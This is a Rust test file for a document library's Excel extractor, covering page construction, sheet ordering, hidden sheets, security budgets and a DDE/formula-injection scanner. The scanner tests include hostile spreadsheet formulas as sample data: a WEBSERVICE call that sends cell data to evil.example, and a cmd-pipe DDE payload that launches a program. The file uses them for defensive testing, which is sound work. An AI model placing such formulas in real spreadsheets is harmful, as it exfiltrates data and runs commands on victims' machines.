use xberg::config::ExtractionConfig;
use xberg::document::{ElementKind, EmbeddedObject, ProcessingWarning};
use xberg::error::XbergError;
use xberg::excel::{
    append_warnings, attach_embedded_objects, charge_workbook_budget, extension_for_mime, is_ooxml_zip_mime, plan_reading,
    scan_for_dde_warnings, warn_about_cell, ExcelExtractor, ExcelSheet, ExcelWorkbook, XlsxPicture, XlsxShapeText,
};
use xberg::security::{SecurityBudget, SecurityLimits};

fn make_sheet(name: &str, cells: Option<Vec<Vec<String>>>) -> ExcelSheet {
    let (markdown, row_count, col_count, cell_count) = match cells.as_ref() {
        Some(c) if !c.is_empty() => {
            let rows = c.len();
            let cols = c.iter().map(|r| r.len()).max().unwrap_or(0);
            let count = c.iter().flat_map(|r| r.iter()).filter(|s| !s.is_empty()).count();
            let mut md = String::new();
            for (i, row) in c.iter().enumerate() {
                md.push('|');
                for cell in row {
                    md.push(' ');
                    md.push_str(cell);
                    md.push_str(" |");
                }
                md.push('\n');
                if i == 0 && c.len() > 1 {
                    md.push('|');
                    for _ in row {
                        md.push_str(" --- |");
                    }
                    md.push('\n');
                }
            }
            (md, rows, cols, count)
        }
        _ => (String::new(), 0, 0, 0),
    };
    ExcelSheet {
        name: name.to_string(),
        markdown,
        row_count,
        col_count,
        cell_count,
        table_cells: cells,
    }
}

fn make_workbook(sheets: Vec<ExcelSheet>) -> ExcelWorkbook {
    ExcelWorkbook {
        sheets,
        metadata: Vec::new(),
        revisions: None,
    }
}

#[test]
fn test_excel_extractor_plugin_interface() {
    let extractor = ExcelExtractor::new();
    assert_eq!(extractor.name(), "excel-extractor");
    assert!(extractor.initialize().is_ok());
    assert!(extractor.shutdown().is_ok());
}

#[test]
fn test_excel_extractor_supported_mime_types() {
    let extractor = ExcelExtractor::new();
    let mime_types = extractor.supported_mime_types();
    assert_eq!(mime_types.len(), 9);
    assert!(mime_types.contains(&"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"));
    assert!(mime_types.contains(&"application/vnd.ms-excel"));
}

#[test]
fn test_prebuilt_pages_always_some() {
    let workbook = make_workbook(vec![]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());
    assert!(doc.prebuilt_pages.is_some());
    assert_eq!(doc.prebuilt_pages.unwrap().len(), 0);
}

#[test]
fn test_single_sheet_produces_one_page() {
    let cells = vec![
        vec!["Name".to_string(), "Value".to_string()],
        vec!["A".to_string(), "1".to_string()],
    ];
    let workbook = make_workbook(vec![make_sheet("Sheet1", Some(cells))]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert_eq!(pages.len(), 1);
    assert_eq!(pages[0].page_number, 1);
    assert_eq!(pages[0].sheet_name.as_deref(), Some("Sheet1"));
    assert_eq!(pages[0].section_name, None);
    assert!(pages[0].content.contains("Sheet1"));
    assert_eq!(pages[0].tables.len(), 1);
    assert_eq!(pages[0].is_blank, Some(false));
}

#[test]
fn test_single_sheet_content_matches_flat_content() {
    let cells = vec![
        vec!["Col1".to_string(), "Col2".to_string()],
        vec!["r1".to_string(), "r2".to_string()],
    ];
    let workbook = make_workbook(vec![make_sheet("Data", Some(cells))]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert_eq!(pages.len(), 1);
    assert!(pages[0].content.starts_with("## Data"));
    assert!(pages[0].content.contains("Col1"));
    assert!(pages[0].content.contains("r1"));
}

#[test]
fn test_multi_sheet_workbook_produces_one_page_per_sheet() {
    let sheet1_cells = vec![
        vec!["A".to_string(), "B".to_string()],
        vec!["1".to_string(), "2".to_string()],
    ];
    let sheet2_cells = vec![vec!["X".to_string()], vec!["99".to_string()]];
    let sheet3_cells = vec![vec!["P".to_string(), "Q".to_string(), "R".to_string()]];
    let workbook = make_workbook(vec![
        make_sheet("First", Some(sheet1_cells)),
        make_sheet("Second", Some(sheet2_cells)),
        make_sheet("Third", Some(sheet3_cells)),
    ]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert_eq!(pages.len(), 3);

    assert_eq!(pages[0].page_number, 1);
    assert_eq!(pages[1].page_number, 2);
    assert_eq!(pages[2].page_number, 3);

    assert_eq!(pages[0].sheet_name.as_deref(), Some("First"));
    assert_eq!(pages[1].sheet_name.as_deref(), Some("Second"));
    assert_eq!(pages[2].sheet_name.as_deref(), Some("Third"));
    assert_eq!(pages[0].section_name, None);
    assert_eq!(pages[1].section_name, None);
    assert_eq!(pages[2].section_name, None);

    assert!(pages[0].content.contains("First"));
    assert!(!pages[0].content.contains("Second"));
    assert!(pages[1].content.contains("Second"));
    assert!(!pages[1].content.contains("First"));
    assert!(pages[2].content.contains("Third"));

    assert_eq!(pages[0].tables.len(), 1);
    assert_eq!(pages[1].tables.len(), 1);
    assert_eq!(pages[2].tables.len(), 1);

    assert_eq!(pages[0].tables[0].cells[0][0], "A");
    assert_eq!(pages[1].tables[0].cells[0][0], "X");
    assert_eq!(pages[2].tables[0].cells[0][0], "P");
}

#[test]
fn test_top_level_tables_populated_for_multi_sheet_workbook() {
    let sheet1_cells = vec![
        vec!["H1".to_string(), "H2".to_string()],
        vec!["r1c1".to_string(), "r1c2".to_string()],
    ];
    let sheet2_cells = vec![vec!["X".to_string()], vec!["99".to_string()]];
    let sheet3_cells = vec![vec!["P".to_string()]];
    let workbook = make_workbook(vec![
        make_sheet("Alpha", Some(sheet1_cells)),
        make_sheet("Beta", Some(sheet2_cells)),
        make_sheet("Gamma", Some(sheet3_cells)),
    ]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    assert_eq!(
        doc.tables.len(),
        3,
        "top-level tables count must equal number of sheets with data"
    );

    assert_eq!(doc.tables[0].page_number, 1);
    assert_eq!(doc.tables[1].page_number, 2);
    assert_eq!(doc.tables[2].page_number, 3);

    assert_eq!(doc.tables[0].cells[0][0], "H1");
    assert_eq!(doc.tables[1].cells[0][0], "X");
    assert_eq!(doc.tables[2].cells[0][0], "P");
}

#[test]
fn test_empty_sheet_in_middle_produces_page_at_correct_index() {
    let sheet1_cells = vec![vec!["A".to_string()]];
    let sheet3_cells = vec![vec!["C".to_string()]];
    let workbook = make_workbook(vec![
        make_sheet("First", Some(sheet1_cells)),
        make_sheet("Empty", None),
        make_sheet("Third", Some(sheet3_cells)),
    ]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert_eq!(pages.len(), 3);

    assert_eq!(pages[0].page_number, 1);
    assert_eq!(pages[1].page_number, 2);
    assert_eq!(pages[2].page_number, 3);

    assert_eq!(pages[1].tables.len(), 0);
    assert_eq!(pages[1].is_blank, Some(true));
    assert_eq!(pages[1].sheet_name.as_deref(), Some("Empty"));
    assert_eq!(pages[1].section_name, None);
    assert!(
        pages[1].content.ends_with("\n\n"),
        "empty-sheet content must end with two newlines, got: {:?}",
        pages[1].content
    );

    assert_eq!(pages[0].is_blank, Some(false));
    assert_eq!(pages[2].is_blank, Some(false));
}

#[test]
fn test_empty_sheet_cells_vec_produces_page_at_correct_index() {
    let workbook = make_workbook(vec![
        make_sheet("HasData", Some(vec![vec!["x".to_string()]])),
        make_sheet("EmptyCells", Some(vec![])),
    ]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert_eq!(pages.len(), 2);
    assert_eq!(pages[1].page_number, 2);
    assert_eq!(pages[1].tables.len(), 0);
    assert_eq!(pages[1].is_blank, Some(true));
    assert!(pages[1].content.ends_with("\n\n"), "empty sheet must end with \\n\\n");
}

#[test]
fn test_sheet_order_preserved() {
    let workbook = make_workbook(vec![
        make_sheet("Z", Some(vec![vec!["z".to_string()]])),
        make_sheet("A", Some(vec![vec!["a".to_string()]])),
        make_sheet("M", Some(vec![vec!["m".to_string()]])),
    ]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert_eq!(pages[0].sheet_name.as_deref(), Some("Z"));
    assert_eq!(pages[1].sheet_name.as_deref(), Some("A"));
    assert_eq!(pages[2].sheet_name.as_deref(), Some("M"));
}

fn make_dde_workbook(cell_value: &str) -> ExcelWorkbook {
    make_workbook(vec![make_sheet("Sheet1", Some(vec![vec![cell_value.to_string()]]))])
}

#[test]
fn test_dde_formula_emits_warning() {
    let workbook = make_dde_workbook("=DDE(\"winword\",\"c:\\test.doc\",\"All\")");
    let warnings = scan_for_dde_warnings(&workbook);
    assert_eq!(warnings.len(), 1, "exactly one DDE warning expected");
    assert!(
        warnings[0].message.contains("DDE"),
        "warning must name the formula kind: {}",
        warnings[0].message
    );
    assert!(
        warnings[0].message.contains("R1C1"),
        "warning must include cell coordinate: {}",
        warnings[0].message
    );
    assert_eq!(warnings[0].source, "excel_dde_scan");
}

#[test]
fn test_webservice_formula_emits_warning() {
    let workbook = make_dde_workbook("=WEBSERVICE(\"https://evil.example/steal?data=\"&A1)");
    let warnings = scan_for_dde_warnings(&workbook);
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].message.contains("WEBSERVICE"), "{}", warnings[0].message);
}

#[test]
fn test_hyperlink_formula_emits_warning() {
    let workbook = make_dde_workbook("=HYPERLINK(\"https://evil.example\",\"click me\")");
    let warnings = scan_for_dde_warnings(&workbook);
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].message.contains("HYPERLINK"), "{}", warnings[0].message);
}

#[test]
fn test_cmd_pipe_formula_emits_warning() {
    let workbook = make_dde_workbook("=cmd|' /c calc'!A0");
    let warnings = scan_for_dde_warnings(&workbook);
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].message.contains("ExternalCall"), "{}", warnings[0].message);
}

#[test]
fn test_benign_formula_string_no_warning() {
    for safe in &["=SUM(A1:A2)", "=AVERAGE(B:B)", "hello world", "42", ""] {
        let workbook = make_dde_workbook(safe);
        let warnings = scan_for_dde_warnings(&workbook);
        assert!(
            warnings.is_empty(),
            "unexpected DDE warning for safe cell {:?}: {:?}",
            safe,
            warnings
        );
    }
}

#[test]
fn test_dde_warning_cap_at_100() {
    let cells: Vec<Vec<String>> = (0..200)
        .map(|i| vec![format!("=DDE(\"app\",\"topic\",\"item{}\")", i)])
        .collect();
    let workbook = make_workbook(vec![make_sheet("Big", Some(cells))]);
    let warnings = scan_for_dde_warnings(&workbook);
    assert_eq!(
        warnings.len(),
        100,
        "DDE warnings must be capped at 100, got {}",
        warnings.len()
    );
}

#[test]
fn test_dde_formula_case_insensitive() {
    for variant in &[
        "=dde(\"app\",\"t\",\"i\")",
        "=DdE(\"a\",\"b\",\"c\")",
        "=webservice(\"x\")",
    ] {
        let workbook = make_dde_workbook(variant);
        let warnings = scan_for_dde_warnings(&workbook);
        assert_eq!(warnings.len(), 1, "case-insensitive match failed for {:?}", variant);
    }
}

#[test]
fn test_workbook_to_internal_document_includes_dde_warnings() {
    let workbook = make_workbook(vec![make_sheet(
        "Injection",
        Some(vec![
            vec!["=DDE(\"app\",\"topic\",\"data\")".to_string()],
            vec!["normal".to_string()],
        ]),
    )]);
    let doc = ExcelExtractor::workbook_to_internal_document(&workbook, Vec::new(), Vec::new());
    let dde_warnings: Vec<_> = doc
        .processing_warnings
        .iter()
        .filter(|w| w.source == "excel_dde_scan")
        .collect();
    assert_eq!(dde_warnings.len(), 1, "one DDE warning expected in InternalDocument");
    assert!(dde_warnings[0].message.contains("DDE"), "{}", dde_warnings[0].message);
}

#[test]
fn charge_workbook_budget_counts_cells_and_shape_text() {
    let workbook = make_workbook(vec![make_sheet(
        "Sheet1",
        Some(vec![vec!["abcdefghij".to_string()]]),
    )]);
    let shapes = vec![XlsxShapeText {
        text: "0123456789".to_string(),
        sheet_name: "Sheet1".to_string(),
        anchor: None,
    }];

    let mut budget = SecurityBudget::from_limits(&SecurityLimits {
        max_content_size: 15,
        ..Default::default()
    });
    assert!(
        charge_workbook_budget(&workbook, &shapes, &mut budget).is_err(),
        "cells (10 bytes) + shape text (10 bytes) must exceed the 15-byte budget"
    );

    let mut budget = SecurityBudget::from_limits(&SecurityLimits {
        max_content_size: 15,
        ..Default::default()
    });
    assert!(
        charge_workbook_budget(&workbook, &[], &mut budget).is_ok(),
        "cells alone (10 bytes) must fit the 15-byte budget"
    );
}

#[test]
fn test_sheet_name_markdown_escape_in_heading() {
    let cells = vec![
        vec!["Revenue".to_string(), "Cost".to_string()],
        vec!["100".to_string(), "80".to_string()],
    ];
    let workbook = make_workbook(vec![make_sheet("## Profit (2025) [Q1]", Some(cells))]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());

    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert_eq!(pages.len(), 1);

    assert_eq!(pages[0].sheet_name.as_deref(), Some("## Profit (2025) [Q1]"));

    assert!(
        !pages[0].content.starts_with("## ##"),
        "double heading detected: {:?}",
        &pages[0].content[..pages[0].content.find('\n').unwrap_or(pages[0].content.len())]
    );
    let first_line = pages[0].content.lines().next().unwrap_or("");
    assert!(
        !first_line.contains("[Q1]") || first_line.contains("\\["),
        "unescaped markdown link syntax in heading: {:?}",
        first_line
    );
    assert!(pages[0].content.starts_with("## "), "content must start with H2 marker");
    assert!(pages[0].content.contains("Profit"));
}

#[test]
fn should_mark_hidden_sheet_heading_but_keep_its_content() {
    let mut workbook = make_workbook(vec![
        make_sheet("Visible", Some(vec![vec!["A".to_string()]])),
        make_sheet("Hidden", Some(vec![vec!["Secret".to_string()]])),
    ]);
    workbook
        .metadata
        .push(("hidden_sheets".to_string(), "Hidden".to_string()));

    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());
    let pages = doc.prebuilt_pages.as_ref().unwrap();

    assert!(pages[0].content.starts_with("## Visible\n"), "{:?}", pages[0].content);
    assert!(
        pages[1].content.starts_with("## Hidden (hidden)\n"),
        "{:?}",
        pages[1].content
    );
    assert!(pages[1].content.contains("Secret"), "hidden sheet content must survive");
}

#[test]
fn should_treat_no_sheets_as_hidden_when_metadata_key_is_absent() {
    let workbook = make_workbook(vec![make_sheet("Sheet1", Some(vec![vec!["A".to_string()]]))]);
    let doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());
    let pages = doc.prebuilt_pages.as_ref().unwrap();
    assert!(pages[0].content.starts_with("## Sheet1\n"), "{:?}", pages[0].content);
}

#[test]
fn media_types_name_their_containers() {
    assert!(is_ooxml_zip_mime("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"));
    assert!(!is_ooxml_zip_mime("application/vnd.ms-excel"));
    assert_eq!(extension_for_mime("application/vnd.ms-excel"), ".xls");
}

fn picture(path: &str, row: u32) -> XlsxPicture {
    XlsxPicture {
        data: vec![1, 2, 3],
        format: "png".to_string(),
        description: None,
        source_path: path.to_string(),
        sheet_name: Some("Sheet1".to_string()),
        sheet_index: Some(1),
        anchor: Some((row, 0)),
    }
}

fn shape(text: &str, row: u32) -> XlsxShapeText {
    XlsxShapeText { text: text.to_string(), sheet_name: "Sheet1".to_string(), anchor: Some((row, 0)) }
}

#[test]
fn drawings_follow_their_sheet_in_the_order_of_their_anchors() {
    let workbook = make_workbook(vec![make_sheet("Sheet1", Some(vec![vec!["x".to_string()]]))]);
    let doc = ExcelExtractor::build_internal_document(
        &workbook,
        vec![picture("xl/media/image2.png", 9), picture("xl/media/image1.png", 5)],
        vec![shape("below", 7), shape("above", 2)],
    );
    let paths: Vec<Option<&str>> = doc.images.iter().map(|i| i.source_path.as_deref()).collect();
    assert_eq!(paths, vec![Some("xl/media/image1.png"), Some("xl/media/image2.png")]);
    let table = doc.elements.iter().position(|e| matches!(e.kind, ElementKind::Table { .. })).expect("a table");
    let image = doc.elements.iter().position(|e| matches!(e.kind, ElementKind::Image { .. })).expect("an image");
    let above = doc.elements.iter().position(|e| e.text == "above").expect("a shape");
    let below = doc.elements.iter().position(|e| e.text == "below").expect("a shape");
    assert!(table < image && image < above && above < below);
}

#[test]
fn workbooks_past_a_ceiling_are_rejected() {
    let workbook = make_workbook(vec![make_sheet("Sheet1", Some(vec![vec!["abcdefghij".to_string()]]))]);
    let config = ExtractionConfig {
        security_limits: Some(SecurityLimits { max_content_size: 5, ..SecurityLimits::default() }),
        ..Default::default()
    };
    let result = ExcelExtractor::new().extract_workbook(
        &workbook,
        vec![],
        vec![],
        vec![],
        "application/vnd.ms-excel",
        &config,
    );
    assert!(matches!(result, Err(XbergError::Security { .. })));
    let warning = ProcessingWarning { source: "reader".to_string(), message: "partly read".to_string() };
    let doc = ExcelExtractor::new()
        .extract_workbook(
            &workbook,
            vec![warning],
            vec![],
            vec![],
            "application/vnd.ms-excel",
            &ExtractionConfig::default(),
        )
        .expect("the workbook is small");
    assert_eq!(doc.mime_type, "application/vnd.ms-excel");
    assert!(doc.processing_warnings.iter().any(|w| w.message == "partly read"));
}

#[test]
fn a_package_is_read_with_its_drawings() {
    let plan = plan_reading(
        "application/vnd.ms-excel.sheet.macroEnabled.12",
        false,
        3,
        false,
    )
    .unwrap();
    assert_eq!(plan.extension, ".xlsm");
    assert!(plan.drawings);
    assert!(!plan.media);
    assert!(plan.embedded);
}

#[test]
fn pictures_are_read_where_their_bytes_are_of_use() {
    let mime = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    let plan = plan_reading(mime, true, 0, false).unwrap();
    assert!(plan.media);
    assert!(!plan.embedded);
}

#[test]
fn a_binary_workbook_has_no_drawings_to_read() {
    let plan = plan_reading("application/vnd.ms-excel", true, 3, false).unwrap();
    assert_eq!(plan.extension, ".xls");
    assert!(!plan.drawings && !plan.media && !plan.embedded);
}

#[test]
fn nothing_is_read_of_a_cancelled_extraction() {
    assert!(matches!(
        plan_reading("application/vnd.ms-excel", true, 3, true),
        Err(XbergError::Cancelled)
    ));
}

#[test]
fn later_warnings_follow_earlier_ones() {
    let workbook = ExcelWorkbook { sheets: vec![make_sheet("A", None)], metadata: Vec::new(), revisions: None };
    let mut doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());
    for message in ["first", "second"] {
        append_warnings(
            &mut doc,
            vec![ProcessingWarning { source: "reader".to_string(), message: message.to_string() }],
        );
    }
    let messages: Vec<&str> = doc.processing_warnings.iter().map(|w| w.message.as_str()).collect();
    assert_eq!(messages, vec!["first", "second"]);
}

#[test]
fn tracked_changes_are_carried_over() {
    let mut workbook = make_workbook(vec![make_sheet("A", None)]);
    workbook.revisions = Some(vec!["insert R1C1".to_string()]);
    let doc = ExcelExtractor::workbook_to_internal_document(&workbook, Vec::new(), Vec::new());
    assert_eq!(doc.revisions, Some(vec!["insert R1C1".to_string()]));
}

#[test]
fn cells_that_reach_outside_are_warned_about() {
    let mut found = Vec::new();
    warn_about_cell(&mut found, "Data", 2, 0, "=webservice(1)", false);
    assert!(found.is_empty());
    warn_about_cell(&mut found, "Data", 2, 0, "=webservice(1)", true);
    assert_eq!(found.len(), 1);
    assert_eq!(
        found[0].message,
        "Cell [Data!R3C1] contains a WEBSERVICE formula that may reference external resources"
    );
}

#[test]
fn embedded_objects_are_attached_and_their_text_merged() {
    let workbook = make_workbook(vec![make_sheet("A", None)]);
    let object = |path: &str, content: &str| EmbeddedObject {
        path: path.to_string(),
        mime_type: "application/pdf".to_string(),
        content: content.to_string(),
    };
    let mut doc = ExcelExtractor::build_internal_document(&workbook, Vec::new(), Vec::new());
    let before = doc.elements.len();
    attach_embedded_objects(&mut doc, Vec::new(), Vec::new());
    assert!(doc.children.is_none());
    attach_embedded_objects(
        &mut doc,
        vec![object("xl/embeddings/a.bin", "inner text"), object("xl/embeddings/b.bin", " \n")],
        vec![ProcessingWarning { source: "excel".to_string(), message: "one was skipped".to_string() }],
    );
    assert_eq!(doc.elements.len(), before + 1);
    assert_eq!(doc.elements[before].kind, ElementKind::Paragraph);
    assert_eq!(doc.elements[before].text, "inner text");
    let children = doc.children.expect("there are some");
    assert_eq!(children.len(), 2);
    assert_eq!(children[1].path, "xl/embeddings/b.bin");
    assert_eq!(doc.processing_warnings.len(), 1);
}
